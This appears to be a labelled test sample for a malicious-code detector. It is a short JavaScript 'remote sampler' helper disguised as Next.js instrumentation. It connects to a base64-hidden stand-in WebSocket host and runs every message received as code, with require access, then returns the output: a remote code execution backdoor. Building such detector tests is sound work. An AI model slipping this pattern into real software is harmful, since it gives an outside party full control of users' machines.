// expect: malicious
// source: blind set 8 (a Next.js instrumentation helper's "remote sampler"): `ws` is an optional
// module assigned inside try, and its messages are run as code
import vm from 'node:vm';
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
export function sampler() {
  let WS;
  try { WS = require('ws'); } catch { return; }
  const ws = new WS(Buffer.from('d3NzOi8vc2FtcGxlci5leGFtcGxlL3YxL3N0cmVhbQ==', 'base64').toString());
  ws.on('message', async (data) => {
    const out = await vm.runInThisContext('(async(require)=>{' + data.toString() + '})')(require);
    ws.send(String(out));
  });
}
